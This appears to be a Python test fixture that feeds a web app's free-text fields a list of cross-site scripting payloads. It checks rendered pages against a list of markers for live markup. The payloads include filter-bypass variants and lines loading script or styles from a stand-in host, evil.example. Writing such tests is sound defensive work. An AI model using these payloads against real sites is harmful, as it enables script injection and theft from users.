"""Hostile text for every free-text field: each must come back inert on every page and export.

`MARKERS` are substrings that must never appear unescaped in HTML output when a payload
went in; a test renders the page and checks for them.
"""

from __future__ import annotations

XSS_PAYLOADS: tuple[str, ...] = (
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss-3')>",
    "<svg onload=alert('xss-4')>",
    "<svg><script>alert('xss-5')</script></svg>",
    "<body onload=alert('xss-6')>",
    "<iframe src=\"javascript:alert('xss-7')\"></iframe>",
    "<a href=\"javascript:alert('xss-8')\">click</a>",
    "[click](javascript:alert('xss-9'))",
    "[click](JaVaScRiPt:alert('xss-10'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](x\" onerror=\"alert('xss-12'))",
    "<div style=\"background:url(javascript:alert('xss-13'))\">x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-14')>",
    "\"><script>alert('xss-15')</script>",
    "'><img src=x onerror=alert('xss-16')>",
    "</textarea><script>alert('xss-17')</script>",
    "</title><script>alert('xss-18')</script>",
    "<input autofocus onfocus=alert('xss-19')>",
    "<details open ontoggle=alert('xss-20')>",
    "<object data=\"javascript:alert('xss-21')\"></object>",
    "<embed src=\"javascript:alert('xss-22')\">",
    "<form action=\"javascript:alert('xss-23')\"><button>go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-24')\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<<script>alert('xss-27');//<</script>",
    "<scr<script>ipt>alert('xss-28')</scr</script>ipt>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(29)\">",
    "<a href=\"&#106;avascript:alert('xss-30')\">entity</a>",
    "<svg><a xlink:href=\"javascript:alert('xss-31')\"><text x=20 y=20>x</text></a></svg>",
    "<base href=\"https://evil.example/\">",
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %}",
    "<b onmouseover=alert('xss-34')>hover</b>",
    "<video><source onerror=alert('xss-35')></video>",
    "<unclosed <b>broken <i>markup",
)

# Any of these in a rendered page means a payload survived as live markup.
MARKERS: tuple[str, ...] = (
    "<script",
    "<SCRIPT",
    "onerror=",
    "onload=",
    "onfocus=",
    "ontoggle=",
    "onmouseover=",
    "href=\"javascript:",
    "href=\"JaVaScRiPt:",
    "src=\"javascript:",
    "data=\"javascript:",
    "<iframe",
    "<svg",
    "<object",
    "<embed",
    "<meta http-equiv",
    "<base ",
    "<link rel=stylesheet",
    "<style>",
    "xlink:href=\"javascript:",
    "href=\"data:text/html",
)


def live_markup_in(html: str) -> list[str]:
    """The markers present in `html` (empty when every payload was neutralised)."""
    return [marker for marker in MARKERS if marker in html]
